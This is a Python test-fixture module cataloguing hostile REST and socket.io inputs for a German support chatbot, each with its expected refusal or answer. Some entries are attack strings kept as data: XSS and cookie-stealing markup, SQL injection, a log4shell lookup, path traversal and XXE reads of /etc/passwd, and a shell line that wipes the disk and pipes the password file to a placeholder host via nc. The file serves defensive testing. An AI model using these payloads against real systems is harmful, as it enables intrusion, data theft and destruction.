"""The catalogue of hostile inputs for tests/integration/test_hostile_input.py.

Plain data, no server needed. REST cases are complete request bodies (bytes, so
encodings, escapes and broken JSON are exactly what is sent), each with its own
fresh sender id. Socket cases are socket.io frames for the web chat.

Expectations:
- ANSWER: HTTP 200 / bot_uttered with a German answer;
- REFUSE: HTTP 400 with a German JSON "error" (TOO_LARGE: 413);
- UNREADABLE: the web chat's German "Diese Nachricht konnte ich leider nicht lesen";
- CONFIRM: a session_confirm with a fresh secret (a client cannot choose its own, bot/server_keys.py);
- CLOSED: the server closes the connection (the socket.io form of a 4xx);
- ORIGIN_REFUSED: the socket.io connection is refused;
- IGNORED: no answer required; the connection must keep working;
- REPLY: any German bot_uttered (an answer or "nicht lesen") or a closed connection, never silence.
"""

from __future__ import annotations

import itertools
import json
import re
from dataclasses import dataclass, field
from typing import Any

ANSWER = "answer"
REFUSE = "refuse"
TOO_LARGE = "too_large"
UNREADABLE = "unreadable"
CONFIRM = "confirm"
CLOSED = "closed"
ORIGIN_REFUSED = "origin_refused"
IGNORED = "ignored"
REPLY = "reply"

JSON = "application/json"
SENDER = b"@SENDER@"  # replaced by the case's fresh sender id
MISSING = object()  # a key left out of the JSON body
NO_DATA = "<no data>"  # a socket.io frame without any argument
OTHER_SESSION = "<session id of another socket>"  # replaced at run time
SAME_ORIGIN = "<the server's own origin>"  # replaced at run time: http://127.0.0.1:<port>
SAME_HOST_HTTPS = "<the server's own host over https>"  # replaced at run time: https://127.0.0.1:<port>

_numbers = itertools.count(1)


def fresh_sender() -> str:
    return f"hostile-{next(_numbers)}"


@dataclass(frozen=True)
class RestCase:
    id: str
    body: bytes | None
    expect: str
    sender: str | None = None  # the sender id in the body, if it is a valid one
    content_type: str | None = JSON
    method: str = "POST"
    chunked: bool = False  # sent with Transfer-Encoding: chunked, no Content-Length
    code: str | None = None  # the refusal's "code"
    stored_text: str | None = None  # what the tracker must keep of the text
    stored_has: str | None = None
    stored_len: int | None = None
    typed: bool = False  # stored as typed text ("input.kind" "typed"), never as a button press


@dataclass(frozen=True)
class SocketCase:
    id: str
    event: str = "user_uttered"
    data: Any = None  # one argument; a tuple: several arguments; NO_DATA: none
    expect: str = ANSWER
    raw: str | None = None  # a raw socket.io packet (engine.io message) instead of an emit
    session_first: bool = True  # session_request before the frame
    headers: dict[str, str] = field(default_factory=dict)
    stored_text: str | None = None
    stored_has: str | None = None
    stored_len: int | None = None
    typed: bool = False


# --------------------------------------------------------------------------- texts
# Typed texts, sent over REST (all) and socket.io (SOCKET_TEXT_IDS).

_ZALGO = "".join(ch + "".join(chr(0x0300 + (i * 7 + k) % 0x70) for k in range(12)) for i, ch in enumerate("hallo"))
_GERMAN_SENTENCE = "Guten Tag, seit gestern Abend fällt mein Internet immer wieder aus, der Router blinkt rot. "
_GERMAN_LONG = (_GERMAN_SENTENCE * 70)[:6000]
_CUSTOMER_TEXT = 'Meine Kundennummer ist 4711000002 und die PLZ 01067'

TEXTS: dict[str, str] = {
    # empty and invisible
    "empty": "",
    "blank": "   \t  \n ",
    "newlines-only": "\n" * 1000,
    "punctuation": "?!.,;:-_()[]{}",
    "question-marks": "???",
    "emoji": "😀😀😀",
    "emoji-thumbs-up": "👍",
    "emoji-flag": "🇩🇪",
    "emoji-zwj-family": "👨\u200d👩\u200d👧\u200d👦",
    "zero-width-only": "\u200b\u200c\u200d\u2060\ufeff",
    "zero-width-in-word": "hal\u200blo in\u200bter\u200bnet",
    "bom-prefix": "\ufeffhallo",
    "rtl-override": "\u202etenretni sad theg thcin",
    "rtl-mixed": "hallo \u202egnurötS\u202c mein WLAN",
    "zalgo": _ZALGO,
    "combining-pile": "a" + "\u0301" * 500,
    "nfd-umlauts": "Sto\u0308rung beim WLAN, gru\u0308n blinkt",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    # control characters and NUL
    "ansi-escape": "\x1b[31mhallo\x1b[0m \x1b]0;title\x07",
    "del-and-c1": "\x7f\x85\x9b\x9f",
    "nul-inside": "hallo\x00welt",
    "nul-only": "\x00" * 100,
    "crlf-injection": "hallo\r\nX-Injected: 1\r\n\r\nGET / HTTP/1.1",
    # lone surrogates (sent as JSON escapes)
    "surrogate-high": "\ud800",
    "surrogate-low-in-text": "hallo \udfff welt",
    "surrogate-broken-emoji": "\ud83d internet geht nicht",
    "surrogate-reversed-pair": "\ude00\ud83d",
    "surrogate-valid-pair": "\ud83d\ude00",
    # markup and scripts
    "script-tag": "<script>alert(1)</script>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "img-onerror": "<img src=x onerror=alert(document.cookie)>",
    "svg-onload": "<svg/onload=alert(1)>",
    "html-around-text": "<b>mein wlan</b> geht nicht<br>",
    "html-entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#xd800; &amp;",
    "javascript-url": "javascript:alert(document.domain)",
    "unclosed-script-repeated": "<script>" * 600,
    # injection
    "sql-or": "' OR '1'='1",
    "sql-drop": "'; DROP TABLE events; --",
    "sql-union": "1 UNION SELECT password FROM users --",
    "template-jinja": "{{7*7}}",
    "template-dollar": "${7*7}",
    "log4shell": "${jndi:ldap://x.example/a}",
    "format-c": "%s%s%s%n%n%x",
    "format-python": "{0} {sender} {__class__}",
    "format-logging": "%(message)s %(asctime)s",
    "path-traversal": "../../../../etc/passwd",
    "path-traversal-encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "shell-subst": "$(reboot)",
    "shell-backticks": "`id`; rm -rf / ; cat /etc/passwd | nc x 1",
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    # size and shape
    "long-word": "a" * 5000,
    "long-compound": "Donaudampfschifffahrtsgesellschaftskapitän" * 120,
    "long-german": _GERMAN_LONG,
    "newlines-between": "hallo" + "\n" * 500 + "internet geht nicht",
    "many-spaces": "internet" + " " * 4000 + "geht nicht",
    # other languages
    "english": "Hello, my internet is not working since yesterday, can you help me?",
    "turkish": "Merhaba, internetim dünden beri çalışmıyor, yardım eder misiniz?",
    "russian": "Здравствуйте, у меня не работает интернет",
    "arabic": "مرحبا، الإنترنت لا يعمل",
    "chinese": "你好，我的网络坏了",
    "japanese": "こんにちは、インターネットが使えません",
    "polish": "Dzień dobry, mój internet nie działa od wczoraj",
    "mixed-de-en": "Hallo, my internet is not working seit gestern",
    # nonsense
    "leetspeak": "1nt3rn3t g3ht n1cht",
    "mash-asdf": "asdfghjkl",
    "mash-qwertz": "qwertzuiopü",
    # numbers, e-mail, phone
    "number-zero": "0",
    "number-short": "12345",
    "number-decimal": "3,14",
    "number-huge": "9" * 400,
    "customer-number": "4711000006",
    "customer-number-grouped": "4711 000 002",
    "customer-and-postal": _CUSTOMER_TEXT,
    "customer-number-too-long": "47110000061234567890",
    "arabic-indic-digits": "Kundennummer ٤٧١١٠٠٠٠٠٢ PLZ ٠١٠٦٧",
    "fullwidth-digits": "Kundennummer ４７１１０００００２ PLZ ０１０６７",
    "email": "max.mustermann@example.com",
    "email-umlaut": "jürgen.müller@straße.de",
    "phone-intl": "+49 (0)170 123 45 67",
    "phone-absurd": "+999999999999999999999999",
    # Rasa intent syntax typed by a customer
    "intent-restart": "/restart",
    "intent-affirm": "/affirm",
    "intent-affirm-entity": '/affirm{"customer_number":"4711000006"}',
    "intent-ticket-status": '/ticket_status{"customer_number":"4711000002","postal_code":"00000"}',
    "intent-session-start": "/session_start",
    "intent-nlu-fallback": "/nlu_fallback",
    "intent-confidence": "/greet@0.99",
    "intent-bad-json": "/inform{bad json",
    "intent-double-slash": "//",
    "intent-slash": "/",
    "intent-handoff": "/human_handoff",
    "intent-nul-entity": '/inform{"diagnosis_answer": "\u0000"}',
}

#: Texts whose stored form is checked (the channel cleans before Rasa stores it).
_STORED_HAS = {
    "surrogate-high": "\ufffd",
    "surrogate-low-in-text": "\ufffd",
    "surrogate-broken-emoji": "\ufffd",
    "surrogate-reversed-pair": "\ufffd",
}
# The first 5000 characters are kept (Rasa strips the whitespace around a message).
_STORED_TEXT = {
    "nul-inside": "hallowelt", "nul-only": "", "surrogate-valid-pair": "😀", "long-german": _GERMAN_LONG[:5000].strip()
}
_STORED_LEN: dict[str, int] = {}

SOCKET_TEXT_IDS = [
    "empty", "emoji", "rtl-override", "zalgo", "nul-inside", "surrogate-high", "surrogate-low-in-text",
    "surrogate-reversed-pair", "script-tag", "img-onerror", "sql-drop", "template-jinja", "log4shell", "shell-subst",
    "long-word", "long-german", "english", "chinese", "mixed-de-en", "customer-and-postal", "fullwidth-digits",
    "intent-restart", "intent-affirm-entity", "intent-ticket-status",
]


def _encode(value: Any) -> bytes:
    """JSON as a client would send it: UTF-8, with escapes only where UTF-8 cannot
    carry the text (lone surrogates)."""
    try:
        return json.dumps(value, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return json.dumps(value).encode("ascii")


def message_case(case_id: str, message: Any, expect: str = ANSWER, metadata: Any = MISSING, **checks: Any) -> RestCase:
    sender = fresh_sender()
    body: dict[str, Any] = {"sender": sender}
    if message is not MISSING:
        body["message"] = message
    if metadata is not MISSING:
        body["metadata"] = metadata
    return RestCase(case_id, _encode(body), expect, sender=sender, **checks)


def raw_case(case_id: str, body: bytes, expect: str, content_type: str | None = JSON, **options: Any) -> RestCase:
    """A body as bytes; SENDER in it becomes a fresh sender id."""
    sender = fresh_sender()
    uses_sender = SENDER in body
    body = body.replace(SENDER, sender.encode())
    return RestCase(case_id, body, expect, sender=sender if uses_sender else None, content_type=content_type, **options)


def sender_case(case_id: str, sender_json: bytes, expect: str = REFUSE, code: str = "sender_invalid") -> RestCase:
    """A body with the given raw JSON value as the sender."""
    body = b'{"sender": ' + sender_json + b', "message": "hallo"}'
    if expect == ANSWER:
        return RestCase(case_id, body, ANSWER, sender=json.loads(sender_json))
    return RestCase(case_id, body, expect, code=code)


def _text_checks(text_id: str) -> dict[str, Any]:
    checks: dict[str, Any] = {}
    if text_id in _STORED_TEXT:
        checks["stored_text"] = _STORED_TEXT[text_id]
    if text_id in _STORED_HAS:
        checks["stored_has"] = _STORED_HAS[text_id]
    if text_id in _STORED_LEN:
        checks["stored_len"] = _STORED_LEN[text_id]
    if TEXTS[text_id].strip().startswith("/"):
        checks["typed"] = True
    return checks


# --------------------------------------------------------------------------- REST

_DEEP_LISTS = b"[" * 30000 + b"]" * 30000
_DEEP_OBJECTS = b'{"a":' * 10000 + b"1" + b"}" * 10000


def _body_shape_cases() -> list[RestCase]:
    ok = b'{"sender": "@SENDER@", "message": "hallo"}'
    cases = [
        raw_case("body-empty", b"", REFUSE, code="not_object"),
        raw_case("body-whitespace", b"  \r\n\t  ", REFUSE, code="not_object"),
        raw_case("body-null", b"null", REFUSE, code="not_object"),
        raw_case("body-true", b"true", REFUSE, code="not_object"),
        raw_case("body-false", b"false", REFUSE, code="not_object"),
        raw_case("body-zero", b"0", REFUSE, code="not_object"),
        raw_case("body-float", b"-1.5e10", REFUSE, code="not_object"),
        raw_case("body-string", b'"hallo"', REFUSE, code="not_object"),
        raw_case("body-empty-array", b"[]", REFUSE, code="not_object"),
        raw_case("body-array-of-request", b"[" + ok + b"]", REFUSE, code="not_object"),
        raw_case("body-nested-arrays", b"[[[[[[]]]]]]", REFUSE, code="not_object"),
        raw_case("body-empty-object", b"{}", REFUSE, code="sender_missing"),
        raw_case("body-unquoted-keys", b"{sender: @SENDER@, message: hallo}", REFUSE, code="not_json"),
        raw_case("body-single-quotes", b"{'sender': '@SENDER@', 'message': 'hallo'}", REFUSE, code="not_json"),
        raw_case("body-truncated", b'{"sender": "@SENDER@", "message": "hal', REFUSE, code="not_json"),
        raw_case("body-trailing-comma", b'{"sender": "@SENDER@", "message": "hallo",}', REFUSE, code="not_json"),
        raw_case("body-trailing-garbage", ok + b"xyz", REFUSE, code="not_json"),
        raw_case("body-two-objects", ok + ok, REFUSE, code="not_json"),
        raw_case("body-js-comment", b'{"sender": "@SENDER@", /* x */ "message": "hallo"}', REFUSE, code="not_json"),
        raw_case("body-duplicate-message", b'{"sender": "@SENDER@", "message": 5, "message": "hallo"}', ANSWER),
        raw_case("body-duplicate-sender", b'{"sender": "../x", "sender": "@SENDER@", "message": "hallo"}', ANSWER),
        raw_case("body-bom-utf8", b"\xef\xbb\xbf" + ok, REFUSE, code="not_json"),
        raw_case("body-utf16-le-bom", "\ufeff{\"sender\": \"@SENDER@\", \"message\": \"hallo\"}".encode("utf-16-le"),
                 REFUSE, code="not_json"),
        raw_case("body-utf16-be", ok.decode().encode("utf-16-be"), REFUSE, code="not_json"),
        raw_case("body-utf32", ok.decode().encode("utf-32"), REFUSE, code="not_json"),
        raw_case("body-latin1", '{"sender": "@SENDER@", "message": "Störung grün"}'.encode("latin-1"),
                 REFUSE, code="not_json"),
        raw_case("body-invalid-utf8", b'{"sender": "@SENDER@", "message": "\xff\xfe\xfd"}', REFUSE, code="not_json"),
        raw_case("body-overlong-utf8", b'{"sender": "@SENDER@", "message": "\xc0\xaf"}', REFUSE, code="not_json"),
        raw_case("body-cesu8-surrogate", b'{"sender": "@SENDER@", "message": "\xed\xa0\x80"}', REFUSE, code="not_json"),
        raw_case("body-truncated-utf8", b'{"sender": "@SENDER@", "message": "\xc3"}', REFUSE, code="not_json"),
        raw_case("body-deep-lists", _DEEP_LISTS, REFUSE, code="not_json"),
        raw_case("body-deep-objects", _DEEP_OBJECTS, REFUSE, code="not_json"),
        raw_case("body-deep-in-message", b'{"sender": "@SENDER@", "message": ' + b"[" * 20000 + b"]" * 20000 + b"}",
                 REFUSE, code="not_json"),
        raw_case("body-deep-in-extra-key", b'{"sender": "@SENDER@", "message": "hallo", "x": ' + _DEEP_LISTS[:40000]
                 + b"}", REFUSE, code="not_json"),
        raw_case("body-nan-message", b'{"sender": "@SENDER@", "message": NaN}', ANSWER),
        raw_case("body-infinity-message", b'{"sender": "@SENDER@", "message": -Infinity}', ANSWER),
        raw_case("body-huge-int-message", b'{"sender": "@SENDER@", "message": ' + b"7" * 4000 + b"}", ANSWER),
        raw_case("body-int-beyond-digit-limit", b'{"sender": "@SENDER@", "message": ' + b"7" * 5000 + b"}",
                 REFUSE, code="not_json"),
        raw_case("body-float-overflow", b'{"sender": "@SENDER@", "message": 1e999}', ANSWER),
        raw_case("body-raw-newline-in-string", b'{"sender": "@SENDER@", "message": "hal\nlo"}', REFUSE,
                 code="not_json"),
        raw_case("body-raw-tab-in-string", b'{"sender": "@SENDER@", "message": "hal\tlo"}', REFUSE, code="not_json"),
        raw_case("escape-invalid-x", b'{"sender": "@SENDER@", "message": "\\x41"}', REFUSE, code="not_json"),
        raw_case("escape-short-unicode", b'{"sender": "@SENDER@", "message": "\\u12"}', REFUSE, code="not_json"),
        raw_case("escape-unknown", b'{"sender": "@SENDER@", "message": "\\q"}', REFUSE, code="not_json"),
        raw_case("escape-trailing-backslash", b'{"sender": "@SENDER@", "message": "hallo\\"}', REFUSE, code="not_json"),
        raw_case("escape-nul", b'{"sender": "@SENDER@", "message": "\\u0000\\u0000hallo"}', ANSWER,
                 stored_text="hallo"),
        raw_case("escape-everything", b'{"\\u0073ender": "@SENDER@", "\\u006dessage": "\\u0068\\u0061llo"}', ANSWER,
                 stored_text="hallo"),
        # content types: JSON only (a page on another site cannot post JSON without a CORS preflight)
        raw_case("type-text-plain", ok, REFUSE, content_type="text/plain", code="not_json_type"),
        raw_case("type-none", ok, REFUSE, content_type=None, code="not_json_type"),
        raw_case("type-json-latin1-charset", ok, ANSWER, content_type="application/json; charset=latin-1"),
        raw_case("type-json-upper-case", ok, ANSWER, content_type="Application/JSON"),
        raw_case("type-form-urlencoded", b"sender=@SENDER@&message=hallo", REFUSE,
                 content_type="application/x-www-form-urlencoded", code="not_json_type"),
        raw_case("type-multipart", b'--b\r\nContent-Disposition: form-data; name="message"\r\n\r\nhallo\r\n--b--\r\n',
                 REFUSE, content_type="multipart/form-data; boundary=b", code="not_json_type"),
        raw_case("type-xml", b"<request><sender>@SENDER@</sender><message>hallo</message></request>", REFUSE,
                 content_type="application/xml", code="not_json_type"),
        raw_case("type-binary-labelled-json", bytes(range(256)) * 4, REFUSE, code="not_json"),
        raw_case("type-binary", bytes(range(256)) * 4, REFUSE, content_type="application/octet-stream",
                 code="not_json_type"),
        raw_case("type-chunked-small", ok, ANSWER, chunked=True),
        # sizes: 64 KB is the limit of the whole body
        raw_case("size-100kb", b'{"sender": "@SENDER@", "message": "' + b"a" * 100_000 + b'"}', TOO_LARGE,
                 code="too_large"),
        raw_case("size-1mb", b'{"sender": "@SENDER@", "message": "' + b"a" * 1_000_000 + b'"}', TOO_LARGE,
                 code="too_large"),
        raw_case("size-20mb", b'{"sender": "@SENDER@", "message": "' + b"a" * 20_000_000 + b'"}', TOO_LARGE,
                 code="too_large"),
        raw_case("size-2mb-chunked", b'{"sender": "@SENDER@", "message": "' + b"a" * 2_000_000 + b'"}', TOO_LARGE,
                 chunked=True, code="too_large"),
        raw_case("size-100kb-whitespace", b" " * 100_000, TOO_LARGE, code="too_large"),
        raw_case("size-60kb-message", b'{"sender": "@SENDER@", "message": "' + b"Internet " * 6_700 + b'"}', ANSWER,
                 stored_len=5000),
        # HTTP methods on the webhook
        raw_case("method-get", b"", REFUSE, content_type=None, method="GET"),
        raw_case("method-put", ok, REFUSE, method="PUT"),
        raw_case("method-delete", b"", REFUSE, content_type=None, method="DELETE"),
    ]
    # Exactly at the limit is allowed, one byte more is not.
    for case_id, size, expect in (("size-exactly-64kb", 65_536, ANSWER), ("size-64kb-plus-one", 65_537, TOO_LARGE)):
        sender = fresh_sender()
        head = b'{"sender": "' + sender.encode() + b'", "message": "'
        body = head + b"x" * (size - len(head) - 2) + b'"}'
        cases.append(RestCase(case_id, body, expect, sender=sender, stored_len=5000 if expect == ANSWER else None))
    return cases


def _sender_cases() -> list[RestCase]:
    return [
        raw_case("sender-missing", b'{"message": "hallo"}', REFUSE, code="sender_missing"),
        sender_case("sender-null", b"null", code="sender_missing"),
        sender_case("sender-empty", b'""', code="sender_missing"),
        sender_case("sender-int", b"12345"),
        sender_case("sender-zero", b"0"),
        sender_case("sender-float", b"1.5"),
        sender_case("sender-true", b"true"),
        sender_case("sender-false", b"false"),
        sender_case("sender-list", b'["kunde-1"]'),
        sender_case("sender-empty-list", b"[]"),
        sender_case("sender-object", b'{"id": "kunde-1"}'),
        sender_case("sender-65-chars", b'"' + b"a" * 65 + b'"'),
        sender_case("sender-60kb", b'"' + b"a" * 60_000 + b'"'),
        sender_case("sender-slash", b'"kunde/1"'),
        sender_case("sender-traversal", b'"a/../../b"'),
        sender_case("sender-dotdot", b'".."'),
        sender_case("sender-space", b'"kunde 1"'),
        sender_case("sender-leading-space", b'" kunde1"'),
        sender_case("sender-trailing-space", b'"kunde1 "'),
        sender_case("sender-angle", b'"<script>"'),
        sender_case("sender-percent-2f", b'"kunde%2F1"'),
        sender_case("sender-escaped-slash", b'"kunde\\u002f1"'),
        sender_case("sender-quote", b'"kunde\\"1"'),
        sender_case("sender-apostrophe", b'"kunde\'1"'),
        sender_case("sender-backslash", b'"kunde\\\\1"'),
        sender_case("sender-semicolon", b'"kunde;1"'),
        sender_case("sender-sql", b'"x\' OR 1=1 --"'),
        sender_case("sender-umlaut", '"kunde-ü"'.encode()),
        sender_case("sender-fullwidth", '"ｋｕｎｄｅ"'.encode()),
        sender_case("sender-emoji", '"kunde-😀"'.encode()),
        sender_case("sender-lone-surrogate", b'"x\\ud800"'),
        sender_case("sender-lone-low-surrogate", b'"\\udc00x"'),
        sender_case("sender-nul", b'"kunde\\u0000"'),
        sender_case("sender-newline", b'"kunde\\n1"'),
        sender_case("sender-trailing-newline", b'"kunde1\\n"'),
        sender_case("sender-tab", b'"kunde\\t1"'),
        sender_case("sender-leading-dash", b'"-kunde"'),
        sender_case("sender-leading-underscore", b'"_kunde"'),
        sender_case("sender-leading-plus", b'"+49170"'),
        sender_case("sender-leading-colon", b'":kunde"'),
        sender_case("sender-leading-dot", b'".kunde"'),
        sender_case("sender-zero-width", b'"kunde\\u200b1"'),
        # odd but valid ids are answered
        sender_case("sender-64-chars", b'"' + b"b" * 63 + b'7"', ANSWER),
        sender_case("sender-all-allowed-signs", b'"a:b+c.d_e-f"', ANSWER),
        sender_case("sender-one-char", b'"Q"', ANSWER),
        sender_case("sender-digits-only", b'"000000000000"', ANSWER),
        sender_case("sender-escaped-letters", b'"\\u0068ostile-escaped"', ANSWER),
    ]


def _message_value_cases() -> list[RestCase]:
    return [
        message_case("message-missing", MISSING, REFUSE, code="message_missing"),
        message_case("message-null", None, REFUSE, code="message_missing"),
        message_case("message-true", True, REFUSE, code="message_invalid"),
        message_case("message-false", False, REFUSE, code="message_invalid"),
        message_case("message-empty-list", [], REFUSE, code="message_invalid"),
        message_case("message-list", ["hallo"], REFUSE, code="message_invalid"),
        message_case("message-empty-object", {}, REFUSE, code="message_invalid"),
        message_case("message-object", {"text": "hallo"}, REFUSE, code="message_invalid"),
        message_case("message-int", 4711, stored_text="4711"),
        message_case("message-zero", 0, stored_text="0"),
        message_case("message-negative", -1, stored_text="-1"),
        message_case("message-float", 3.14, stored_text="3.14"),
        message_case("message-int-customer-number", 4711000006, stored_text="4711000006"),
        message_case("message-float-max", 1.7976931348623157e308),
    ]


def _metadata_cases() -> list[RestCase]:
    deep_string = "[" * 1000 + "]" * 1000  # valid JSON, inside the 2 KB that are parsed
    return [
        message_case("metadata-string", "hallo", metadata="kein objekt"),
        message_case("metadata-number", "hallo", metadata=42),
        message_case("metadata-list", "hallo", metadata=[1, 2, 3]),
        message_case("metadata-true", "hallo", metadata=True),
        message_case("metadata-null", "hallo", metadata=None),
        message_case("metadata-json-string", "hallo", metadata='{"input": {"kind": "button"}, "x": 1}'),
        message_case("metadata-broken-json-string", "hallo", metadata='{"x": '),
        message_case("metadata-deeply-nested-json-string", "hallo", metadata=deep_string),
        message_case("metadata-unclosed-nested-json-string", "hallo", metadata="[" * 2048),
        message_case("metadata-huge", "hallo", metadata={f"key{i}": "v" * 40 for i in range(1000)}),
        message_case("metadata-long-key", "hallo", metadata={"k" * 30_000: 1}),
        message_case("metadata-nested-500", "hallo", metadata=json.loads('{"a":' * 500 + "1" + "}" * 500)),
        message_case("metadata-surrogates", "hallo", metadata={"\ud800": "\udfff", "x": ["\ud83d"]}),
        message_case("metadata-nul", "hallo", metadata={"a\u0000": "b\u0000"}),
        raw_case("metadata-nan-infinity", b'{"sender": "@SENDER@", "message": "hallo", "metadata": {"a": NaN, '
                 b'"b": Infinity, "c": -Infinity}}', ANSWER),
        raw_case("metadata-huge-int", b'{"sender": "@SENDER@", "message": "hallo", "metadata": {"n": ' + b"9" * 4000
                 + b"}}", ANSWER),
        message_case("metadata-claims-button", "/affirm", metadata={"input": {"kind": "button", "title": "Ja"}},
                     typed=True),
        message_case("metadata-claims-button-entity", '/affirm{"customer_number":"4711000006"}',
                     metadata={"input": {"kind": "button"}, "button_label": "Ja"}, typed=True),
        message_case("metadata-label-is-command", "/restart", metadata={"button_label": "/restart"}, typed=True),
        message_case("metadata-label-not-string", "/internet_down", metadata={"button_label": {"a": 1}}, typed=True),
        message_case("metadata-agent-names", "hallo", metadata={"sender_name": "Mitarbeiter Max", "chat_state":
                                                                "waiting", "input_channel": "console"}),
    ]


def _rest_text_cases() -> list[RestCase]:
    return [message_case(f"text-{text_id}", text, **_text_checks(text_id)) for text_id, text in TEXTS.items()]


REST_CASES: list[RestCase] = _body_shape_cases() + _sender_cases() + _message_value_cases() + _metadata_cases()
REST_CASES += _rest_text_cases()


# --------------------------------------------------------------------------- socket.io

_HUGE_METADATA = {f"key{i}": "v" * 50 for i in range(1000)}  # about 60 KB: under the frame limit
_DEEP_FRAME = '2["user_uttered",{"message":"hallo","metadata":' + "[" * 5000 + "]" * 5000 + "}]"


def _frame_cases() -> list[SocketCase]:
    return [
        # frames that are not a message
        SocketCase("frame-string", data="hallo", expect=UNREADABLE),
        SocketCase("frame-number", data=42, expect=UNREADABLE),
        SocketCase("frame-true", data=True, expect=UNREADABLE),
        SocketCase("frame-null", data=(None,), expect=UNREADABLE),
        SocketCase("frame-no-data", data=NO_DATA, expect=UNREADABLE),
        SocketCase("frame-list", data=["hallo"], expect=UNREADABLE),
        SocketCase("frame-empty-object", data={}, expect=UNREADABLE),
        SocketCase("frame-wrong-key", data={"text": "hallo"}, expect=UNREADABLE),
        SocketCase("frame-message-null", data={"message": None}, expect=UNREADABLE),
        SocketCase("frame-message-number", data={"message": 42}, expect=UNREADABLE),
        SocketCase("frame-message-true", data={"message": True}, expect=UNREADABLE),
        SocketCase("frame-message-list", data={"message": ["hallo"]}, expect=UNREADABLE),
        SocketCase("frame-message-object", data={"message": {"text": "hallo"}}, expect=UNREADABLE),
        SocketCase("frame-binary", data=b"\x00\xff\xfe", expect=UNREADABLE),
        SocketCase("frame-two-arguments", data=("hallo", "welt"), expect=UNREADABLE),
        SocketCase("frame-message-and-extra-argument", data=({"message": "hallo"}, "extra"), expect=REPLY),
        # metadata
        SocketCase("frame-metadata-string", data={"message": "hallo", "metadata": "kein objekt"}),
        SocketCase("frame-metadata-number", data={"message": "hallo", "metadata": 42}),
        SocketCase("frame-metadata-list", data={"message": "hallo", "metadata": [1, 2]}),
        SocketCase("frame-metadata-huge", data={"message": "hallo", "metadata": _HUGE_METADATA}),
        SocketCase("frame-metadata-deeply-nested-json-string",
                   data={"message": "hallo", "metadata": "[" * 1000 + "]" * 1000}),
        SocketCase("frame-metadata-claims-button",
                   data={"message": "/affirm", "metadata": {"input": {"kind": "button"}}}, typed=True),
        SocketCase("frame-metadata-agent-name",
                   data={"message": "hallo", "metadata": {"sender_name": "Mitarbeiter Max", "chat_state": "waiting"}}),
        SocketCase("frame-metadata-button-label",
                   data={"message": "/internet_down", "metadata": {"button_label": "Internet geht gar nicht"}},
                   typed=True),
        # sizes: frames up to 1 MB are read and answered (texts are cut to 5000 characters); larger ones close
        SocketCase("frame-60kb-message", data={"message": "Internet " * 6_600}, stored_len=5000),
        SocketCase("frame-just-over-64kb", data={"message": "a" * 65_600}, stored_len=5000),
        SocketCase("frame-escaped-umlauts-over-64kb", data={"message": "ü" * 12_000}, stored_len=5000),
        SocketCase("frame-metadata-over-64kb", data={"message": "hallo", "metadata": {"x": "y" * 70_000}}),
        SocketCase("frame-1mb", data={"message": "a" * 1_100_000}, expect=CLOSED),
        SocketCase("frame-metadata-over-1mb", data={"message": "hallo", "metadata": {"x": "y" * 1_100_000}},
                   expect=CLOSED),
        # before any session_request: the server starts a session itself
        SocketCase("no-session-hallo", data={"message": "hallo"}, session_first=False),
        SocketCase("no-session-script", data={"message": "<script>alert(1)</script>"}, session_first=False),
        SocketCase("no-session-surrogate", data={"message": "\ud800\udbff"}, session_first=False, stored_has="\ufffd"),
        SocketCase("no-session-unreadable", data=12, expect=UNREADABLE, session_first=False),
        # unknown and reserved event names
        SocketCase("event-unknown", event="foo", data={"message": "hallo"}, expect=IGNORED),
        SocketCase("event-message", event="message", data="hallo", expect=IGNORED),
        SocketCase("event-bot-uttered", event="bot_uttered", data={"text": "Ich bin der Bot"}, expect=IGNORED),
        SocketCase("event-session-confirm", event="session_confirm", data={"session_id": "x"}, expect=IGNORED),
        SocketCase("event-empty-name", event="", data={"message": "hallo"}, expect=IGNORED),
        SocketCase("event-long-name", event="e" * 5000, data={"message": "hallo"}, expect=IGNORED),
        SocketCase("event-connect", event="connect", data={"token": "x"}, expect=IGNORED),
        SocketCase("event-disconnect", event="disconnect", data=NO_DATA, expect=IGNORED),
        # raw socket.io packets: below the message level; the connection must survive
        # Frames python-socketio cannot decode: answered like any unreadable frame
        # (bot/channels/webchat.py ReadablePacket), never dropped with a traceback.
        SocketCase("raw-event-without-data", raw="2", expect=UNREADABLE),
        SocketCase("raw-truncated-json", raw='2["user_uttered",{"message":"hal', expect=UNREADABLE),
        SocketCase("raw-empty-event-list", raw="2[]", expect=UNREADABLE),
        SocketCase("raw-event-name-not-text", raw="2[42,{}]", expect=UNREADABLE),
        SocketCase("raw-trailing-garbage", raw='2["user_uttered",{"message":"hallo"}]garbage', expect=UNREADABLE),
        SocketCase("raw-unknown-packet-type", raw="9", expect=UNREADABLE),
        SocketCase("raw-binary-event", raw='51-["user_uttered",{"_placeholder":true,"num":0}]', expect=UNREADABLE),
        SocketCase("raw-deeply-nested-metadata", raw=_DEEP_FRAME, expect=UNREADABLE),
        SocketCase("raw-unknown-namespace", raw='2/evil,["user_uttered",{"message":"hallo"}]', expect=IGNORED),
    ]


def _session_cases() -> list[SocketCase]:
    garbage = {
        "number": 12345,
        "string": "kein objekt",
        "list": ["a" * 40],
        "secret-number": {"session_secret": 123},
        "secret-long": {"session_secret": "x" * 10_000},
        "secret-object": {"session_secret": {"a": 1}},
        "secret-list": {"session_secret": ["A" * 40]},
        "secret-traversal": {"session_secret": "../../../../etc/passwd"},
        "secret-surrogates": {"session_secret": "\ud800" * 40},
        "secret-31-chars": {"session_secret": "a" * 31},
        "secret-65-chars": {"session_secret": "a" * 65},
        "secret-newline": {"session_secret": "A" * 40 + "\n"},
        "secret-other-session-id": {"session_secret": OTHER_SESSION},
        "rasa-session-id-key": {"session_id": OTHER_SESSION},
        "secret-well-formed-unsigned": {"session_secret": "A" * 40},
        "secret-forged-signature": {"session_secret": "A" * 32 + "." + "B" * 22},
    }
    cases = [SocketCase(f"session-{name}", event="session_request", data=data, expect=CONFIRM, session_first=False)
             for name, data in garbage.items()]
    cases += [
        SocketCase("session-null", event="session_request", data=(None,), expect=CONFIRM, session_first=False),
        SocketCase("session-no-data", event="session_request", data=NO_DATA, expect=CONFIRM, session_first=False),
        SocketCase("session-two-arguments", event="session_request", data=({"session_secret": None}, 2),
                   expect=CONFIRM, session_first=False),
